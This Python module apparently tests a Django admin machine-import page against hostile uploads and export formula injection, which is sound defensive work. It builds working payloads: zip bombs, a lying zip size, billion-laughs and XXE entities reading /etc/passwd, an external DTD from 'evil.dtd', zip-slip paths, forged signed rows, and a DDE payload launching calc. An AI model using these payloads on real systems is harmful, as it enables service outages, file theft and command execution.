"""Files with machines: zip bombs, entities, links, formulas, and wrong sizes."""

import csv
import io
import struct
import time
import zipfile

from proofs.attack_kinds.json_bombs import peak_of_pages
from proofs.support.attack_report import Report
from proofs.support.attacked_school import School
from proofs.support.raw_http import Answer

PAGE = "/admin/farm/machine/import/"
SECONDS, MEGABYTES = 15.0, 300
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
TYPES = {"/xl/workbook.xml": "sheet.main", "/xl/worksheets/sheet1.xml": "worksheet"}
DEFAULT = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
HEAD = ("name", "gpu_count", "memory_gb")


def attack(school: School, report: Report) -> None:
    root = school.browser("root")
    good = root.upload(PAGE, "file", "machines.csv", b"name,gpu_count,memory_gb\nfine-1,1,8\n")
    if "fine-1" not in good.text:
        raise SystemExit(f"a good sheet has no preview ({good.status}): nothing could be seen here")
    for name in ("sam", "mara", "alice"):
        caller = school.browser(name)
        answer = caller.upload(PAGE, "file", "machines.csv", b"name,gpu_count,memory_gb\nstolen-1,1,8\n")
        report.attempt("by somebody without the right", caller, f"POST {PAGE}", answer, effect=_effect(school, answer))
    for variant, (name, content) in _files().items():
        before, began = peak_of_pages(school), time.monotonic()
        answer = root.upload(PAGE, "file", name, content)
        took, grown = time.monotonic() - began, peak_of_pages(school) - before
        effects = [
            _effect(school, answer),
            f"{took:.0f} s" if took > SECONDS else "",
            f"{grown} MB" if grown > MEGABYTES else "",
        ]
        report.attempt(
            variant, root, f"POST {PAGE} {len(content)} bytes", answer, effect="; ".join(filter(None, effects))
        )
    _rows_by_hand(school, report)
    _exported_again(school, report)


def _effect(school: School, answer: Answer) -> str:
    from farm.models import Machine

    if "root:x:" in answer.text:
        return "the answer shows a file of the server"
    extra = Machine.objects.exclude(pk=school.rows.machine.pk).exclude(name__startswith="exported").count()
    return f"{extra} machines more" if extra else ""


def _files() -> dict[str, tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    entities = f'<!DOCTYPE x [<!ENTITY a0 "lol">{laughs}]>'
    outside = '<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd" [<!ENTITY a9 "x">]>'
    wide = "".join(f'<c t="inlineStr"><is><t>c{n}</t></is></c>' for n in range(16_384))
    far = '<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
    return {
        "200 MB of spaces": ("bomb.xlsx", _workbook(_sheet(" " * 200_000_000))),
        "100,000 rows in a small zip": ("rows.xlsx", _workbook(_sheet("<row><c><v>1</v></c></row>" * 600_000))),
        "a size that lies": ("lies.xlsx", _lying(_workbook(_sheet("<row/>" * 3_000_000)))),
        "entities of entities": ("laughs.xlsx", _workbook(_sheet(_row("&a9;"), entities))),
        "an entity that is a file": ("file.xlsx", _workbook(_sheet(_row("&a9;"), outside))),
        "an entity from elsewhere": ("remote.xlsx", _workbook(_sheet(_row("&a9;"), remote))),
        "16,384 columns": ("wide.xlsx", _workbook(_sheet(f"<row>{wide}</row>{_row('x')}"))),
        "the last cell there is": ("far.xlsx", _workbook(_sheet(f'{_row("x")}<row r="1048576">{far}</row>'))),
        "a formula as a value": ("formula.xlsx", _workbook(_sheet(f"{_row()}<row><c><f>1+1</f><v>2</v></c></row>"))),
        "a link to another workbook": ("links.xlsx", _workbook(_sheet(_row("x")), linked=True)),
        "names that leave the folder": ("up.xlsx", _workbook(_sheet(_row("x")), extra="../../../../tmp/attacked")),
        "2,000 parts": ("parts.xlsx", _workbook(_sheet(_row("x")), parts=2000)),
        "half a zip": ("half.xlsx", _workbook(_sheet(_row("x")))[:300]),
        "no sheet": ("none.xlsx", _workbook(None)),
        "a million columns": ("wide.csv", b"name" + b"," * 900_000 + b"\n"),
        "an open quotation mark": ("open.csv", b'name\n"' + b"x" * 900_000),
        "100,000 empty lines": ("lines.csv", b"name\n" + b"\n" * 900_000),
        "NUL": ("nul.csv", b"name,gpu_count,memory_gb\na\0b,1,1\n"),
        "2 MB": ("large.csv", b"name\n" + b"x\n" * 1_000_000),
        "a name of 100 kB": ("name.csv", b"name,gpu_count,memory_gb\n" + b"x" * 100_000 + b",1,1\n"),
        "numbers of 5,000 digits": ("digits.csv", b"name,gpu_count,memory_gb\nx," + b"9" * 5000 + b",1\n"),
    }


def _row(*names: str) -> str:
    head = "".join(f'<c t="inlineStr"><is><t>{title}</t></is></c>' for title in HEAD)
    lines = (f'<row><c t="inlineStr"><is><t>{name}</t></is></c><c><v>1</v></c><c><v>1</v></c></row>' for name in names)
    return f"<row>{head}</row>{''.join(lines)}"


def _sheet(rows: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet {NS}><sheetData>{rows}</sheetData></worksheet>'


def _workbook(sheet: str | None, *, linked: bool = False, extra: str = "", parts: int = 0) -> bytes:
    """An XLSX file with this sheet; `linked` to another workbook, with a part of the name `extra`, with more parts."""
    types = "".join(f'<Override PartName="{name}" ContentType="{KIND}.{kind}+xml"/>' for name, kind in TYPES.items())
    links = _link("r1", "worksheet", "worksheets/sheet1.xml")
    if linked:
        links += _link("r9", "externalLinkPath", "http://127.0.0.1:9/x", ' TargetMode="External"')
    sheets = f'<sheet name="m" sheetId="1" r:id="r1" xmlns:r="{REL}"/>' if sheet is not None else ""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", f'<Types xmlns="{PACKAGE}/content-types">{DEFAULT}{types}</Types>')
        book.writestr("_rels/.rels", _links(_link("r1", "officeDocument", "xl/workbook.xml")))
        book.writestr("xl/_rels/workbook.xml.rels", _links(links))
        book.writestr("xl/workbook.xml", f"<workbook {NS}><sheets>{sheets}</sheets></workbook>")
        if sheet is not None:
            book.writestr("xl/worksheets/sheet1.xml", sheet)
        if extra:
            book.writestr(extra, "x")
        for number in range(parts):
            book.writestr(f"xl/part{number}.xml", "x")
    return out.getvalue()


def _link(name: str, kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="{name}" Type="{REL}/{kind}" Target="{target}"{more}/>'


def _links(links: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>'


def _lying(content: bytes) -> bytes:
    """The same zip, whose directory says that the sheet unpacks to 100 bytes."""
    place = content.rindex(b"xl/worksheets/sheet1.xml") - 46
    return content[: place + 24] + struct.pack("<L", 100) + content[place + 28 :]


def _rows_by_hand(school: School, report: Report) -> None:
    """The signed rows of a preview: made up, and of another person."""
    from django.core import signing

    root, mara = school.browser("root"), school.people["mara"]
    row = ["x.csv", [[2, {"name": "by-hand", "gpu_count": 9, "memory_gb": 9}]]]
    for variant, text in (
        ("rows made up", "eyJ4Ijoge319:x:y"),
        ("rows signed for another person", signing.dumps(row, salt=f"farm.import.{mara.pk}", compress=True)),
        ("rows signed for nothing", signing.dumps(row)),
        ("empty rows", ""),
        ("rows of 1 MB", "a" * 10**6),
    ):
        answer = root.send("POST", PAGE, form={"rows": text, "mark": ""})
        report.attempt(variant, root, f"POST {PAGE} rows={text[:12]}…", answer, effect=_effect(school, answer))


def _exported_again(school: School, report: Report) -> None:
    """No cell of our exports may begin like a formula."""
    robot, root = school.program("robot"), school.browser("root")
    starts = {
        "=": "=1+1",
        "+": "+1+1",
        "-": "-1+1",
        "@": "@SUM(1)",
        "tab": "\t=1+1",
        "quote": "'=1+1",
        "DDE": "=cmd|' /C calc'!A0",
    }
    for number, (variant, text) in enumerate(starts.items()):
        body = {"name": f"exported-{number}", "gpu_count": 1, "memory_gb": 1, "notes": text, "location": text}
        answer = robot.send("POST", "/api/v1/farm/resources/", json=body)
        if answer.status >= 400:
            report.attempt(f"{variant} in an export", robot, f"POST machine {text!r}", answer, effect="")
            continue
        exported = root.send("GET", "/admin/farm/machine/export.csv").body.decode("utf-8-sig")
        separator = ";" if exported.splitlines()[0].count(";") else ","
        cells = [cell for line in csv.reader(io.StringIO(exported, newline=""), delimiter=separator) for cell in line]
        runs = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        report.attempt(
            f"{variant} in an export", robot, f"POST machine {text!r}", answer, effect=f"cells {runs}" if runs else ""
        )
